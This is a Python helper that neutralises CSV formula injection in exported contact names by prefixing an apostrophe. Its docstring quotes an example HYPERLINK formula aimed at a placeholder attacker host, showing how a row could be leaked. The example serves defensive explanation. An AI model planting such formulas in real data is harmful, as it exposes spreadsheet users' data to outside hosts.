"""Text from outside (contact names, which often arrive by CSV import) made safe for a CSV
that an operator will open in Excel, LibreOffice or Google Sheets.

Those programs run a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return
before one) as a formula: `=HYPERLINK("https://evil.example/?"&A2, "Click")` in a contact's name
would leak the row or lure a click. A leading apostrophe makes the cell plain text (OWASP's CSV
injection advice). Only free text goes through here: our own numbers, statuses and E.164 phone
numbers are kept exact so the export still reads back as data.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def as_text_cell(value: str) -> str:
    """`value`, with an apostrophe in front when a spreadsheet would read it as a formula."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value
